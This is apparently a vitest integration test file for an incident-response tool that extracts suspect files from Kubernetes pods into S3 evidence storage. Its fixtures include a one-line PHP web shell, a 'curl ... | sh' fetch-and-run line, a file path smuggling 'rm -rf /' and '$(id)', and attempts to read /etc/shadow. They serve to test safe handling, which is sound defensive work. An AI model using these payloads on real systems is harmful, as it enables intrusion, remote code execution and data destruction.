/**
 * extract-file against the real clients: a fake Kubernetes API whose pods are temp dirs
 * running real programs, and moto S3.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateBucketCommand, GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { destroyAwsClients, type AwsClients } from '../../../../src/aws/clients.js';
import { loadConfig, type PipelineSettings } from '../../../../src/config.js';
import { LimitExceededError } from '../../../../src/errors.js';
import { createKubeClients } from '../../../../src/kube/clients.js';
import { createSilentLogger } from '../../../../src/logger.js';
import { extractFile, extractFileAction } from '../../../../src/pipeline/actions/evidence/extractFile.js';
import type { ActionDeps } from '../../../../src/pipeline/actions/types.js';
import { invokeAction } from '../../../../src/pipeline/invokeAction.js';
import { createMotoClients, MOTO_REGION, uniqueName } from '../../../support/aws.js';
import { startFakeKube, type FakeKube, type FakePod } from '../../../support/fakeKube/index.js';

const NS = 'web';
const T0 = new Date('2026-03-01T12:00:00.000Z');

let fake: FakeKube;
let aws: AwsClients;
let bucket: string;
let scratch: string;
let previousTmp: string | undefined;
let podCount = 0;

beforeAll(async () => {
  fake = await startFakeKube();
  aws = createMotoClients();
  bucket = uniqueName('extract');
  await aws.s3.send(new CreateBucketCommand({ Bucket: bucket, CreateBucketConfiguration: { LocationConstraint: MOTO_REGION } }));
  // The action's temp files go to os.tmpdir(): point it at a directory this file owns, to check they are removed.
  scratch = mkdtempSync(join(tmpdir(), 'extract-test-'));
  previousTmp = process.env.TMPDIR;
  process.env.TMPDIR = scratch;
});

afterAll(async () => {
  if (previousTmp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = previousTmp;
  rmSync(scratch, { recursive: true, force: true });
  destroyAwsClients(aws);
  await fake.close();
});

beforeEach(() => {
  fake.onExec(undefined);
  fake.clearRecords();
});

afterEach(async () => {
  await fake.idle();
  // Whatever happened, no extracted bytes are left behind.
  const left = readdirSync(scratch);
  for (const entry of left) rmSync(join(scratch, entry), { recursive: true, force: true });
  expect(left).toEqual([]);
});

function settings(overrides: Partial<PipelineSettings> = {}): PipelineSettings {
  return { ...loadConfig({ env: {}, envFile: false }).pipeline, evidenceBucket: bucket, ...overrides };
}

function deps(overrides: Partial<PipelineSettings> = {}, now: () => Date = () => T0): ActionDeps {
  return { aws, kube: createKubeClients(fake.kubeConfig()), settings: settings(overrides), logger: createSilentLogger(), now };
}

function newPod(files: Record<string, string | Buffer>, containers: string[] = ['app']): FakePod {
  podCount += 1;
  return fake.addPod({ namespace: NS, name: `app-${podCount}`, containers, files });
}

function sha256(data: string | Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

async function getObject(key: string): Promise<{ body: Buffer; metadata: Record<string, string>; etag?: string; lastModified?: Date }> {
  const out = await aws.s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
  const body = Buffer.from(await out.Body!.transformToByteArray());
  return { body, metadata: out.Metadata ?? {}, etag: out.ETag, lastModified: out.LastModified };
}

async function keysUnder(prefix: string): Promise<string[]> {
  const out = await aws.s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: prefix }));
  return (out.Contents ?? []).map((o) => o.Key!);
}

const argvs = () => fake.execs.map((e) => e.argv);

describe('extract-file', () => {
  it('stores the file write-once under evidence/<incident>/<sha256>/<name> with its source as metadata', async () => {
    const path = '/var/www/html/uploads/shell.php';
    const content = '<?php system($_GET["c"]); ?>\n';
    const pod = newPod({ [path]: content, '/var/www/html/index.php': 'index' });
    const incidentId = uniqueName('inc');

    const result = await extractFile({ input: { namespace: NS, pod: pod.name, path }, actor: 'discord:123456789012345678', incidentId }, deps());

    const hash = sha256(content);
    const key = `evidence/${incidentId}/${hash}/shell.php`;
    const location = `s3://${bucket}/${key}`;
    expect(result.status).toBe('succeeded');
    expect(result.summary).toContain(location);
    expect(result.details).toEqual({
      namespace: NS,
      pod: pod.name,
      container: 'app',
      path,
      bucket,
      key,
      location,
      sha256: hash,
      size: Buffer.byteLength(content),
      alreadyStored: false,
      notes: [],
      evidence: {
        kind: 'file',
        location,
        sha256: hash,
        size: Buffer.byteLength(content),
        collector: 'sentinel',
        collectedAt: T0.toISOString(),
        source: { namespace: NS, pod: pod.name, container: 'app', path },
      },
    });

    const stored = await getObject(key);
    expect(stored.body.equals(Buffer.from(content))).toBe(true);
    expect(stored.metadata).toEqual({
      namespace: NS,
      pod: pod.name,
      container: 'app',
      path,
      sha256: hash,
      size: String(Buffer.byteLength(content)),
      'collected-at': T0.toISOString(),
      collector: 'sentinel',
      'incident-id': incidentId,
      actor: 'discord:123456789012345678',
    });
    expect(argvs()).toEqual([
      ['realpath', '-e', '-z', '--', path],
      ['stat', '-L', '-c', '%s %F', '--', path],
      ['cat', '--', path],
    ]);
    expect(pod.readText(path)).toBe(content);
  });

  it('records the configured collector and the named container of a multi-container pod', async () => {
    const path = '/srv/data/dump.sql';
    const pod = newPod({ [path]: 'select 1;' }, ['db', 'sidecar']);
    const incidentId = uniqueName('inc');

    const result = await extractFile(
      { input: { namespace: NS, pod: pod.name, container: 'sidecar', path }, actor: 'cli', incidentId },
      deps({ collector: 'sentinel-prod' }),
    );

    expect(result.status).toBe('succeeded');
    const { key } = result.details as { key: string };
    const stored = await getObject(key);
    expect(stored.metadata).toMatchObject({ container: 'sidecar', collector: 'sentinel-prod' });
    expect(fake.execs.every((e) => e.container === 'sidecar')).toBe(true);
  });

  it('a rerun finds the same content stored and succeeds without writing (alreadyStored)', async () => {
    const path = '/tmp/payload.sh';
    const pod = newPod({ [path]: 'curl http://203.0.113.9/x | sh\n' });
    const incidentId = uniqueName('inc');
    const request = { input: { namespace: NS, pod: pod.name, path }, actor: 'cli', incidentId };

    const first = await extractFile(request, deps());
    const key = (first.details as { key: string }).key;
    const before = await getObject(key);
    const later = new Date(T0.getTime() + 3_600_000);

    const second = await extractFile(request, deps({}, () => later));

    expect(second.status).toBe('succeeded');
    expect(second.details).toMatchObject({ key, alreadyStored: true, sha256: before.metadata.sha256 });
    expect(second.summary).toMatch(/already stored/);
    const after = await getObject(key);
    // Unchanged: a second successful PutObject would carry the later collected-at.
    expect(after.metadata['collected-at']).toBe(T0.toISOString());
    expect(after.etag).toBe(before.etag);
    expect(after.body.equals(before.body)).toBe(true);
    expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([key]);
  });

  it('a dry run reports size and destination without reading the content or writing S3', async () => {
    const path = '/opt/app/config.yaml';
    const content = 'password: hunter2\n';
    const pod = newPod({ [path]: content });
    const incidentId = uniqueName('inc');

    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId, dryRun: true }, deps());

    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/^dry run: would read 18 bytes/);
    expect(result.details).toMatchObject({
      dryRun: true,
      path,
      size: Buffer.byteLength(content),
      bucket,
      destinationPrefix: `s3://${bucket}/evidence/${incidentId}/`,
      keyPattern: `evidence/${incidentId}/<sha256>/config.yaml`,
    });
    expect(argvs()).toEqual([
      ['realpath', '-e', '-z', '--', path],
      ['stat', '-L', '-c', '%s %F', '--', path],
    ]);
    expect(fake.execs[1]!.stdoutBytes).toBeLessThan(40);
    expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([]);
    expect(pod.readText(path)).toBe(content);
  });

  it('a missing file is skipped with the reason, and nothing is read or stored', async () => {
    const pod = newPod({ '/tmp/other': 'x' });
    const incidentId = uniqueName('inc');

    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path: '/tmp/gone.php' }, { actor: 'cli', incidentId }, deps());

    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/file not found in pod/);
    expect(result.summary).toContain('/tmp/gone.php');
    expect(argvs().map((a) => a[0])).toEqual(['realpath']);
    expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([]);
  });

  it('refuses a file larger than SENTINEL_EXTRACT_MAX_BYTES before reading it', async () => {
    const path = '/tmp/big.bin';
    const pod = newPod({ [path]: Buffer.alloc(2048, 7) });
    const incidentId = uniqueName('inc');

    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId }, deps({ extractMaxBytes: 1000 }));

    expect(result.status).toBe('failed');
    expect(result.summary).toMatch(/is 2048 bytes, over the extraction limit of 1000 bytes/);
    expect(result.details).toEqual({ error: 'FileTooLarge', final: true });
    expect(argvs().map((a) => a[0])).toEqual(['realpath', 'stat']);
    await expect(extractFile({ input: { namespace: NS, pod: pod.name, path }, actor: 'cli', incidentId }, deps({ extractMaxBytes: 1000 }))).rejects.toBeInstanceOf(
      LimitExceededError,
    );
    expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([]);
  });

  it('aborts the read when the file grows past the limit after stat, and leaves no temp file', async () => {
    const path = '/tmp/growing.log';
    const pod = newPod({ [path]: Buffer.alloc(64 * 1024, 1) });
    const incidentId = uniqueName('inc');
    // stat saw a small file; by the time cat runs it is 64 KiB.
    fake.onExec((ctx) => (ctx.argv[0] === 'stat' ? { stdout: '100 regular file\n', exitCode: 0 } : undefined));

    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId }, deps({ extractMaxBytes: 1000 }));

    expect(result.status).toBe('failed');
    expect(result.summary).toMatch(/grew past the extraction limit of 1000 bytes/);
    expect(result.details).toEqual({ error: 'FileTooLarge', final: true });
    expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([]);
  });

  it('round-trips several MB of random binary content exactly (streamed upload)', async () => {
    const path = '/app/bin/miner';
    const data = randomBytes(6 * 1024 * 1024 + 123);
    const pod = newPod({ [path]: data });
    const incidentId = uniqueName('inc');

    const result = await extractFile({ input: { namespace: NS, pod: pod.name, path }, actor: 'cli', incidentId }, deps());

    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ sha256: sha256(data), size: data.length, key: `evidence/${incidentId}/${sha256(data)}/miner` });
    const stored = await getObject((result.details as { key: string }).key);
    expect(stored.body.length).toBe(data.length);
    expect(stored.body.equals(data)).toBe(true);
    expect(stored.metadata.size).toBe(String(data.length));
  }, 60_000);

  it('treats a path full of shell metacharacters as data: one argv element, exact bytes, nothing else touched', async () => {
    const path = "/tmp/x'; rm -rf / #$(id)`id`\n.php";
    const content = 'evil';
    const others = { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/var/www/html/index.php': '<?php echo 1;' };
    const pod = newPod({ [path]: content, ...others });
    const before = pod.list();
    const incidentId = uniqueName('inc');

    const result = await extractFile({ input: { namespace: NS, pod: pod.name, path }, actor: 'cli', incidentId }, deps());

    expect(result.status).toBe('succeeded');
    // The last segment is ` #$(id)`id`\n.php` (the name holds a slash); sanitized for the key.
    const key = `evidence/${incidentId}/${sha256(content)}/____id__id__.php`;
    expect(result.details).toMatchObject({ key, path });
    const stored = await getObject(key);
    expect(stored.body.toString()).toBe(content);
    expect(decodeURIComponent(stored.metadata.path!)).toBe(path);
    expect(argvs()).toContainEqual(['cat', '--', path]);
    expect(argvs()).toContainEqual(['stat', '-L', '-c', '%s %F', '--', path]);
    expect(fake.execs.every((e) => e.refused === undefined && e.exitCode === 0)).toBe(true);
    expect(pod.list()).toEqual(before);
    for (const [p, c] of Object.entries(others)) expect(pod.readText(p)).toBe(c);
  });

  it.each(['/home/user/100%41 done.txt', '/home/user/a%20b/파일.txt', '/home/user/trailing '])(
    'stores the path %j so that decoding the metadata gives it back',
    async (path) => {
      const pod = newPod({ [path]: `content of ${path}` });
      const result = await extractFile({ input: { namespace: NS, pod: pod.name, path }, actor: 'cli', incidentId: uniqueName('inc') }, deps());
      const stored = await getObject((result.details as { key: string }).key);
      expect(decodeURIComponent(stored.metadata.path!)).toBe(path);
    },
  );

  it.each([
    ['/var/www/../../etc/shadow', 'PathTraversal'],
    ['/tmp/./x', 'PathTraversal'],
    ['/', 'InvalidPath'],
  ])('refuses %j before any Kubernetes call', async (path, code) => {
    const pod = newPod({ '/etc/shadow': 'secret' });
    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: code, final: true });
    expect(fake.execs).toEqual([]);
    expect(fake.calls).toEqual([]);
  });

  it('refuses bad input (invalid names, relative path, unknown fields)', async () => {
    for (const input of [
      { namespace: 'Bad_NS', pod: 'p', path: '/tmp/x' },
      { namespace: 'web', pod: 'p', path: 'tmp/x' },
      { namespace: 'web', pod: 'p', path: '/tmp/a\0b' },
      { namespace: 'web', pod: 'p', path: '/tmp/x', extra: true },
    ]) {
      const result = await invokeAction(extractFileAction, input, { actor: 'cli', incidentId: 'inc-1' }, deps());
      expect(result.status).toBe('failed');
      expect(result.details).toEqual({ error: 'InvalidInput', final: true });
    }
    expect(fake.calls).toEqual([]);
  });

  it('refuses a directory: only regular files are extracted', async () => {
    const pod = newPod({ '/srv/www/a.html': 'a' });
    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path: '/srv/www' }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('failed');
    expect(result.summary).toMatch(/is a directory, not a regular file/);
    expect(result.details).toEqual({ error: 'NotRegularFile', final: true });
    expect(argvs().map((a) => a[0])).toEqual(['realpath', 'stat']);
  });

  describe('a path through a symlink', () => {
    it('that leads out of the quarantine roots (a symlinked parent /tmp/a -> /etc) is refused, and nothing is read', async () => {
      const pod = newPod({ '/etc/shadow': 'root:$6$secret' });
      pod.symlink('../etc', '/tmp/a');
      const incidentId = uniqueName('inc');
      const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path: '/tmp/a/shadow' }, { actor: 'cli', incidentId }, deps());
      expect(result.status).toBe('failed');
      expect(result.details).toEqual({ error: 'SymlinkEscape', final: true });
      expect(result.summary).toMatch(/^refusing "\/tmp\/a\/shadow": it resolves through a symlink to "\/etc\/shadow", outside the allowed roots/);
      expect(argvs().map((a) => a[0])).toEqual(['realpath']);
      expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([]);
    });

    it('that stays inside the roots is followed: the real file is read and stored, named as asked', async () => {
      const pod = newPod({ '/srv/data/real.php': 'real' });
      pod.symlink('../srv/data/real.php', '/tmp/link.php');
      const incidentId = uniqueName('inc');
      const result = await extractFile({ input: { namespace: NS, pod: pod.name, path: '/tmp/link.php' }, actor: 'cli', incidentId }, deps());
      expect(result.status).toBe('succeeded');
      expect(result.details).toMatchObject({ path: '/tmp/link.php', resolvedPath: '/srv/data/real.php', sha256: sha256('real'), key: `evidence/${incidentId}/${sha256('real')}/link.php` });
      expect(argvs()).toContainEqual(['cat', '--', '/srv/data/real.php']);
      const stored = await getObject(`evidence/${incidentId}/${sha256('real')}/link.php`);
      expect(stored.metadata).toMatchObject({ path: '/tmp/link.php', 'resolved-path': '/srv/data/real.php' });
    });

    it('a path without any symlink may be outside the roots, as before (evidence from anywhere, read-only)', async () => {
      const pod = newPod({ '/usr/local/bin/miner': 'elf' });
      const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path: '/usr/local/bin/miner' }, { actor: 'cli', incidentId: uniqueName('inc') }, deps());
      expect(result.status).toBe('succeeded');
      expect(result.details).not.toHaveProperty('resolvedPath');
    });
  });

  describe('candidates (every reading of an ambiguous path)', () => {
    it('stores each one that exists inside the roots, never reads the others, and lists the evidence', async () => {
      const real = '/var/www/html/uploads/a proc=x cmdline=.php';
      const pod = newPod({ [real]: '<?php evil();', '/etc/hostname': 'h' });
      const incidentId = uniqueName('inc');
      const candidates = ['/var/www/html/uploads/a', real, '/etc/hostname'];

      const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, candidates }, { actor: 'cli', incidentId }, deps());

      expect(result.status).toBe('succeeded');
      expect(result.summary).toMatch(/^extracted 1 of 3 candidate paths/);
      const details = result.details as { candidates: { path: string; status: string; sha256?: string }[]; evidence: { location: string; sha256: string }[] };
      expect(details.candidates.map((c) => [c.path, c.status])).toEqual([
        ['/var/www/html/uploads/a', 'skipped'],
        [real, 'succeeded'],
        ['/etc/hostname', 'refused'],
      ]);
      const key = `evidence/${incidentId}/${sha256('<?php evil();')}/a_proc_x_cmdline_.php`;
      expect(details.evidence).toEqual([expect.objectContaining({ location: `s3://${bucket}/${key}`, sha256: sha256('<?php evil();') })]);
      expect(await keysUnder(`evidence/${incidentId}/`)).toEqual([key]);
      expect(argvs().flat()).not.toContain('/etc/hostname');
    });
  });

  it('a missing pod fails with NotFound', async () => {
    const result = await invokeAction(extractFileAction, { namespace: NS, pod: 'no-such-pod', path: '/tmp/x' }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('failed');
    expect(result.summary).toBe(`pod ${NS}/no-such-pod not found`);
    expect(result.details).toEqual({ error: 'PodNotFound', final: true });
    expect(fake.execs).toEqual([]);
  });

  it('a pod that disappears before the exec fails with NotFound, not a generic error', async () => {
    const pod = newPod({ '/tmp/x': 'x' });
    fake.injectFailure({ path: `/api/v1/namespaces/${NS}/pods/${pod.name}/exec`, code: 404, reason: 'NotFound', message: `pods "${pod.name}" not found` });
    const result = await invokeAction(extractFileAction, { namespace: NS, pod: pod.name, path: '/tmp/x' }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: 'PodNotFound', final: true });
  });

  it('fails clearly without an evidence bucket, before touching the pod', async () => {
    const pod = newPod({ '/tmp/x': 'x' });
    const result = await invokeAction(
      extractFileAction,
      { namespace: NS, pod: pod.name, path: '/tmp/x' },
      { actor: 'cli', incidentId: 'inc-1' },
      deps({ evidenceBucket: undefined }),
    );
    expect(result.status).toBe('failed');
    expect(result.summary).toMatch(/no evidence bucket is configured \(set SENTINEL_EVIDENCE_BUCKET\)/);
    expect(result.details).toEqual({ error: 'NoEvidenceBucket', final: false });
    expect(fake.calls).toEqual([]);
  });

  it('declares least-privilege permissions', () => {
    expect(extractFileAction.id).toBe('extract-file');
    expect(extractFileAction.permissions.iam.sort()).toEqual(['s3:GetObject', 's3:PutObject']);
    expect(extractFileAction.permissions.rbac.flatMap((r) => r.resources).sort()).toEqual(['pods', 'pods/exec']);
  });
});
